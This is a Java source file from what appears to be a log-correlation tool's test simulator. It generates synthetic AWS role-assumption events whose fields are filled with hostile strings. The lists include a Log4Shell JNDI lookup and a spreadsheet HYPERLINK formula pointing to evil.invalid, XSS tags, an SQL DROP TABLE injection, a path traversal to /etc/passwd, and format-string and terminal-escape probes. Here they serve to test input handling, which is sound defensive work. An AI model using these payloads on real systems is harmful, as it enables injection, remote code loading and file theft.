package dev.hoptrail.correlate.simulate;

import java.util.List;

/// Text that attackers choose, in every field that takes it: formulas, markup, queries, terminal
/// escapes, writing direction, names of object prototypes.
final class HostileText {
    /// What AWS lets into session names and source identities.
    private static final List<String> NAMES =
            List.of(
                    "=1+1",
                    "@SUM",
                    "-2+3",
                    "+cmd",
                    "__proto__",
                    "constructor",
                    "null",
                    "undefined",
                    "..",
                    "a,b=c",
                    "NaN",
                    "-_-",
                    "=HYPERLINK",
                    "true",
                    "toString");

    /// What the other fields may hold.
    private static final List<String> TEXTS =
            List.of(
                    "=HYPERLINK(\"http://evil.invalid\",\"x\")",
                    "<script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
                    "\u202Egnp.exe\u202C",
                    "'; DROP TABLE sessions; --",
                    "* OR tag.Team:*",
                    "${jndi:ldap://evil.invalid/a}",
                    "line one\r\nline two\tand \\ \" '",
                    "zero\u200Bwidth\uFEFFmark",
                    "e\u0301 \u00E9 \u1F469\u200D",
                    "\uD83D\uDE00 \uD83C\uDFF4",
                    "nul\u0000byte",
                    "{{7*7}} %s %n %x",
                    "../../../../etc/passwd",
                    " leading and trailing ");

    private HostileText() {}

    static void tell(Scene scene) {
        Account account = scene.organization.home(scene.dice, scene.start);
        Issue.Saml saml =
                PeopleStory.saml(
                        account, "Okta", "http://www.okta.com/exk1", scene.dice.pick(TEXTS));
        Role role = scene.organization.role(account, "HostileEntry");
        Client client =
                new Client("203.0.113." + scene.dice.between(1, 250), scene.dice.pick(TEXTS));
        String name = scene.dice.pick(NAMES) + "-" + scene.dice.hex(6);
        Issue issue = Issue.withSaml(saml, role, name, scene.start, client).duration(14_400);
        issue.lasting(scene.dice.pick(TEXTS) + " a", scene.dice.pick(TEXTS));
        issue.tag(scene.dice.pick(TEXTS) + " b", scene.dice.pick(TEXTS))
                .tag(scene.dice.pick(NAMES), "");
        Session session = scene.issue(issue.sourceIdentity(scene.dice.pick(NAMES)));
        scene.work(session, 1);
        hop(scene, session);
        refused(scene, session);
    }

    private static void hop(Scene scene, Session from) {
        Role role = scene.organization.role(from.account, "HostileTarget");
        String name = scene.dice.pick(NAMES) + "-" + scene.dice.hex(6);
        Issue issue = Issue.assumeRole(from.asCaller(), role, name, scene.start + 90, from.client);
        issue.externalId(scene.dice.pick(TEXTS)).policy(scene.dice.pick(TEXTS));
        scene.work(
                scene.issue(
                        issue.in(from.region)
                                .lasting("c " + scene.dice.pick(TEXTS), scene.dice.pick(TEXTS))),
                1);
    }

    private static void refused(Scene scene, Session session) {
        Role role = scene.organization.role(session.account, "HostileTarget");
        Issue issue =
                Issue.assumeRole(
                        session.asCaller(), role, session.name, scene.start + 140, session.client);
        scene.deny(issue.in(session.region), "AccessDenied", scene.dice.pick(TEXTS), true);
    }
}
